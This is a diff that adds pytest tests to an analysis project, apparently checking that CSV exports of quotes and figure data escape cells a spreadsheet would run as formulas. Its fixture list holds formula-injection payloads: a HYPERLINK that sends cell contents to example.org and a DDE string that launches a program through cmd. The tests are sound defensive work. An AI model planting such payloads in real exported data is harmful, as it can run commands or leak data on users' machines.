@@ -6,10 +6,12 @@ Each hostile file is built here, small, from bytes.
 
 from __future__ import annotations
 
+import io
 import zipfile
 import zlib
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
 from analysis.errors import InputError
@@ -98,3 +100,50 @@ def test_a_pdf_whose_pages_ask_far_more_work_than_its_size_is_refused_midway(tmp
     plain = tmp_path / "short.pdf"
     plain.write_bytes(pdf_bytes(b"BT /F1 12 Tf 72 712 Td (Kenya: We agree with the Framework.) Tj ET", 3))
     assert "We agree" in read_pdf(plain).segments[0].text  # a real one is read
+
+
+# What a spreadsheet would run, quoted from a transcript: a link, a program, a sum, a formula after a tab.
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3 climate",
+    "@SUM(1)",
+    "\t=1",
+]
+
+
+def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(tmp_path):
+    from analysis import catalogue
+
+    quotes = pd.DataFrame([{
+        "group": "African Group", "theme": "skills", "theme_label": "Skills", "theme_short": "Skills",
+        "rank": i + 1, "country": "KEN", "delegation": "Kenya", "speaker": "=Kenya", "text": text,
+        "evidence": ["-skills"], "source": "a.txt:1", "locator": "a.txt:1", "sentence_id": f"S/0/{i}",
+        "session_id": "S", "turn": 0, "sentence": i, "n_words": 3, "score": -2,
+    } for i, text in enumerate([*FORMULAS, "-0.25", "Skills - and = rights."])])  # fmt: skip
+    exported = pd.read_csv(io.BytesIO(catalogue.encode("quotes", quotes)["quotes.csv"]), dtype=str)
+    assert exported["text"].tolist() == ["'" + f for f in FORMULAS] + ["-0.25", "Skills - and = rights."]
+    assert set(exported["speaker"]) == {"'=Kenya"} and set(exported["evidence"]) == {"'-skills"}
+    assert set(exported["score"]) == {"-2"}  # numbers stay numbers
+    parquet = pd.read_parquet(io.BytesIO(catalogue.encode("quotes", quotes)["quotes.parquet"]))
+    assert parquet["text"].tolist()[: len(FORMULAS)] == FORMULAS  # the table itself keeps the words
+
+
+def test_the_csv_beside_a_figure_holds_a_groups_formula_like_name_as_text():
+    import matplotlib
+
+    matplotlib.use("Agg")
+    from matplotlib.figure import Figure
+
+    from analysis import figures
+
+    data = pd.DataFrame(
+        {"group": ["=Group(1)", "Arab Group"], "term": ["@handle", "skills"], "share": [-0.5, 1]}
+    )
+    files = figures.figure_files(Figure(), data, "terms", {})
+    saved = pd.read_csv(io.BytesIO(files["terms.csv"]), dtype=str)
+    assert saved.to_dict("list") == {
+        "group": ["'=Group(1)", "Arab Group"],
+        "term": ["'@handle", "skills"],
+        "share": ["-0.5", "1"],
+    }
